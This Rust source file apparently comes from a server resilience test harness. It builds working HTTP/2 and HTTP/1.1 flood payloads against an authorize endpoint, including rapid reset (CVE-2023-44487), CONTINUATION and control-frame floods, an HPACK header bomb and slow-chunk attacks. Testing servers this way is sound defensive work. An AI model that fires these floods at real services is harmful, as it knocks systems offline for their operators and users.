//! HTTP/2 frames as an attacker writes them (RFC 9113 section 4), and the floods that are made of them.

/// A flood: what it begins with, and what it goes on with for ever.
pub struct Attack {
    /// Its name in the report.
    pub name: &'static str,
    begin: fn() -> Vec<u8>,
    /// The next piece, by its number.
    pub more: fn(u32) -> Vec<u8>,
}

impl Attack {
    /// The first bytes of the connection.
    pub fn opening(&self) -> Vec<u8> {
        (self.begin)()
    }
}

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const UNKNOWN: u8 = 0xfe;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut bytes = length[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// The preface and empty settings.
fn hello() -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend(frame(SETTINGS, 0, 0, &[]));
    bytes
}

/// `POST /v1/authorize` as HPACK writes it without a table (RFC 7541).
fn request() -> Vec<u8> {
    let mut block = vec![0x83, 0x86, 0x44, 13];
    block.extend(b"/v1/authorize");
    block.extend([0x41, 1, b'x']);
    block
}

fn repeated(unit: &[u8]) -> Vec<u8> {
    unit.repeat(16 * 1024 / unit.len() + 1)
}

/// 512 requests with numbers of their own, each followed by something.
fn streams(turn: u32, flags: u8, then: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    let numbers = (0..512).map(|at| 1 + 2 * (turn * 512 + at));
    numbers.flat_map(|stream| [frame(HEADERS, flags, stream, &request()), then(stream)].concat()).collect()
}

/// A question whose answer the client has no room for, and then silence.
pub fn closed_window() -> Vec<u8> {
    // SETTINGS_INITIAL_WINDOW_SIZE of nothing (RFC 9113 section 6.5.2).
    let settings = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
    let question = frame(HEADERS, END_STREAM | END_HEADERS, 1, &request());
    [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(), settings, question].concat()
}

/// As many questions as a connection may ask at once, none of them with its body.
pub fn bodies_that_never_come() -> Vec<u8> {
    let questions = (0..128).flat_map(|at| frame(HEADERS, END_HEADERS, 1 + 2 * at, &request()));
    hello().into_iter().chain(questions).collect()
}

/// The floods.
pub const ATTACKS: &[Attack] = &[
    Attack {
        name: "rapid reset (CVE-2023-44487)",
        begin: hello,
        more: |turn| streams(turn, END_HEADERS, |stream| frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())),
    },
    Attack {
        name: "made you reset (CVE-2025-8671)",
        begin: hello,
        more: |turn| streams(turn, END_HEADERS, |stream| frame(WINDOW_UPDATE, 0, stream, &[0; 4])),
    },
    Attack { name: "more streams than allowed", begin: hello, more: |turn| streams(turn, END_HEADERS, |_| Vec::new()) },
    Attack {
        name: "CONTINUATION without an end",
        begin: || [hello(), frame(HEADERS, END_STREAM, 1, &request())].concat(),
        more: |_| repeated(&frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b")),
    },
    Attack {
        name: "empty CONTINUATION without an end",
        begin: || [hello(), frame(HEADERS, END_STREAM, 1, &request())].concat(),
        more: |_| repeated(&frame(CONTINUATION, 0, 1, &[])),
    },
    Attack {
        name: "empty DATA without an end",
        begin: || [hello(), frame(HEADERS, END_HEADERS, 1, &request())].concat(),
        more: |_| repeated(&frame(DATA, 0, 1, &[])),
    },
    Attack { name: "PING", begin: hello, more: |_| repeated(&frame(PING, 0, 0, &[7; 8])) },
    Attack { name: "SETTINGS", begin: hello, more: |_| repeated(&frame(SETTINGS, 0, 0, &[])) },
    Attack {
        name: "SETTINGS that change a window",
        begin: hello,
        more: |turn| repeated(&frame(SETTINGS, 0, 0, &[0, 4, 0, 0, u8::from(turn % 2 == 0), 255])),
    },
    Attack { name: "PRIORITY", begin: hello, more: |_| repeated(&frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 1])) },
    Attack {
        name: "WINDOW_UPDATE",
        begin: hello,
        more: |_| repeated(&frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes())),
    },
    Attack { name: "frames of no kind", begin: hello, more: |_| repeated(&frame(UNKNOWN, 0, 0, &[0; 64])) },
    Attack {
        name: "header bomb (HPACK table)",
        begin: || {
            // One large entry in the table, named again and again by one byte.
            let mut block = request();
            block.extend([0x40, 1, b'a', 0x7f, 0x80 | 0x21, 0x1e]);
            block.extend(vec![b'b'; 127 + 0x21 + (0x1e << 7)]);
            block.extend(vec![0xbe; 12_000]);
            [hello(), frame(HEADERS, END_STREAM | END_HEADERS, 1, &block)].concat()
        },
        more: |_| repeated(&frame(PING, 0, 0, &[7; 8])),
    },
    Attack {
        name: "HTTP/1.1 header without an end",
        begin: || b"POST /v1/authorize HTTP/1.1\r\nhost: x\r\n".to_vec(),
        more: |_| repeated(b"a: b\r\n"),
    },
    Attack {
        name: "HTTP/1.1 chunks of one byte",
        begin: || b"POST /v1/authorize HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\n".to_vec(),
        more: |_| repeated(b"1\r\n \r\n"),
    },
    Attack {
        name: "HTTP/1.1 chunk extension without end",
        begin: || b"POST /v1/authorize HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\n1".to_vec(),
        more: |_| repeated(b";a=b"),
    },
];
